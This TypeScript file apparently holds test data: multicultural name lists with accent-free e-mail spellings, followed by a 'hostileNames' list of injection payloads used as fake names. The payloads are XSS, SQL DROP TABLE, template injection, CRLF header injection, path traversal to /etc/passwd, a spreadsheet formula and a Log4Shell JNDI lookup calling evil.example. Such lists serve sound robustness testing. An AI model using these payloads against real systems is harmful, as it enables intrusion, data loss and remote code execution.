/** A name part as it is shown, and as it stands in an e-mail address. */
export type NamePart = readonly [shown: string, written: string]

export type NameParts = readonly [NamePart, ...NamePart[]]

/** Names that belong together, so that a whole name is a likely one. */
export interface NameCulture {
  given: NameParts
  family: NameParts
  /** Family name first and without a space; the other way round where it is left out. */
  isFamilyFirst?: boolean
}

/** Names without accents, which are written as they are shown. */
function plain(first: string, ...others: string[]): NameParts {
  const part = (name: string): NamePart => [name, name.toLowerCase()]
  return [part(first), ...others.map(part)]
}

/**
 * Given and family names by where they are at home. Each culture's lists are combined freely, so no full name is
 * anybody's on purpose.
 */
export const nameCultures = {
  english: {
    given: plain('Amelia', 'Callum', 'Daisy', 'Edith', 'Felix', 'Harriet', 'Isaac', 'Luna', 'Owen', 'Rowan'),
    family: plain(
      'Ashdown',
      'Bellamy',
      'Cartwright',
      'Denholm',
      'Fairweather',
      'Hargrove',
      'Lockyer',
      'Whitlock',
    ),
  },
  irish: {
    given: [...plain('Cormac', 'Fiachra', 'Niamh', 'Saoirse'), ['Éabha', 'eabha'], ['Oisín', 'oisin']],
    family: [
      ...plain('Brannigan', 'Kinsella', 'Tuohy'),
      ['O’Meadhra', 'omeadhra'],
      ['Ní Laoire', 'ni.laoire'],
    ],
  },
  german: {
    given: [
      ...plain('Anneliese', 'Greta', 'Jonas', 'Lena', 'Moritz'),
      ['Björn', 'bjorn'],
      ['Jürgen', 'jurgen'],
    ],
    family: [...plain('Ackermann', 'Kesselbach', 'Lindenthal'), ['Größer', 'groesser'], ['Weiß', 'weiss']],
  },
  french: {
    given: [...plain('Hugo', 'Margaux'), ['Amélie', 'amelie'], ['Étienne', 'etienne'], ['Inès', 'ines']],
    family: [...plain('Beaurivage', 'Rousselot'), ['d’Aubrac', 'daubrac'], ['Lefèvre', 'lefevre']],
  },
  iberian: {
    given: [...plain('Beatriz', 'Nerea', 'Thiago'), ['Íñigo', 'inigo'], ['Kauê', 'kaue'], ['Lucía', 'lucia']],
    family: [
      ...plain('Villalobos'),
      ['Peña-Río', 'pena.rio'],
      ['da Conceição', 'da.conceicao'],
      ['Montalvão', 'montalvao'],
    ],
  },
  nordic: {
    given: [
      ...plain('Astrid', 'Eirik', 'Marit'),
      ['Søren', 'soren'],
      ['Þórdís', 'thordis'],
      ['Linnéa', 'linnea'],
    ],
    family: [...plain('Borchgrevink', 'Lindqvist'), ['Nygård', 'nygard'], ['Sørlie', 'sorlie']],
  },
  polish: {
    given: [...plain('Kasia', 'Wojciech', 'Zuzanna'), ['Grażyna', 'grazyna'], ['Łukasz', 'lukasz']],
    family: [...plain('Kowalczyk', 'Szymczak', 'Wieczorek'), ['Gołąb', 'golab']],
  },
  turkish: {
    given: [...plain('Elif', 'Emre'), ['Ayşe', 'ayse'], ['Dağhan', 'daghan']],
    family: [...plain('Aksoylu'), ['Karadağ', 'karadag'], ['Yıldızhan', 'yildizhan']],
  },
  indian: {
    given: plain('Ananya', 'Arjun', 'Farah', 'Imran', 'Meera', 'Priya', 'Rohan', 'Vikram'),
    family: plain('Bhattarai', 'Chakravarti', 'Deshpande', 'Iyengar', 'Malhotra', 'Siddiqui'),
  },
  african: {
    given: plain('Amara', 'Chinedu', 'Kwame', 'Ngozi', 'Sipho', 'Thandiwe'),
    family: plain('Adeyemi-Cole', 'Dlamini', 'Mensah', 'Ndlovu', 'Nwachukwu', 'Okafor'),
  },
  vietnamese: {
    given: [...plain('Linh', 'Minh', 'Quang'), ['Hòa', 'hoa'], ['Thảo', 'thao']],
    family: [
      ['Bùi', 'bui'],
      ['Đặng', 'dang'],
      ['Phạm', 'pham'],
      ['Trần', 'tran'],
    ],
  },
  cyrillic: {
    given: [
      ['Богдан', 'bohdan'],
      ['Дарина', 'daryna'],
      ['Злата', 'zlata'],
      ['Мирослав', 'miroslav'],
      ['Оксана', 'oksana'],
      ['Тихон', 'tikhon'],
    ],
    family: [
      ['Бондаренко', 'bondarenko'],
      ['Гриценко', 'hrytsenko'],
      ['Ковальчук', 'kovalchuk'],
      ['Черных', 'chernykh'],
    ],
  },
  arabic: {
    given: [
      ['نور', 'nour'],
      ['سلمى', 'salma'],
      ['فارس', 'faris'],
      ['هدى', 'huda'],
      ['كريم', 'karim'],
    ],
    family: [
      ['النجار', 'alnajjar'],
      ['بن زيدان', 'ben.zidan'],
      ['القمري', 'alqamari'],
      ['البغدادي', 'albaghdadi'],
    ],
  },
  chinese: {
    given: [
      ['春晓', 'chunxiao'],
      ['子墨', 'zimo'],
      ['雨桐', 'yutong'],
      ['𠮷安', 'jian'],
      ['思远', 'siyuan'],
    ],
    family: [
      ['欧阳', 'ouyang'],
      ['林', 'lin'],
      ['司徒', 'situ'],
      ['陈', 'chen'],
    ],
    isFamilyFirst: true,
  },
  emoji: {
    given: [
      ['🌻 Sunny', 'sunny'],
      ['Max 🚴‍♀️', 'max'],
      ['👩🏽‍💻', 'coder'],
    ],
    family: [
      ['☕', 'coffee'],
      ['Winters ❄️', 'winters'],
      ['🇨🇭', 'swiss'],
    ],
  },
} as const satisfies Record<string, NameCulture>

/** Names that break a page or a program which trusts them; put in place of a normal name. */
export const hostileNames: readonly [string, ...string[]] = [
  '<script>alert("name")</script>',
  '<img src=x onerror="alert(1)">',
  `Robert'); DROP TABLE contacts;--`,
  '"quoted" \'twice\' `thrice`',
  '\u202Egnp.exe\u202C',
  '{{constructor.constructor("return this")()}}',
  '=HYPERLINK("https://evil.example","click")',
  '%00%0d%0aSet-Cookie:%20a=b',
  'Zero\u200Bwidth\uFEFF and\ttab\nand line',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '&lt;b&gt;already escaped&lt;/b&gt; &amp;',
]
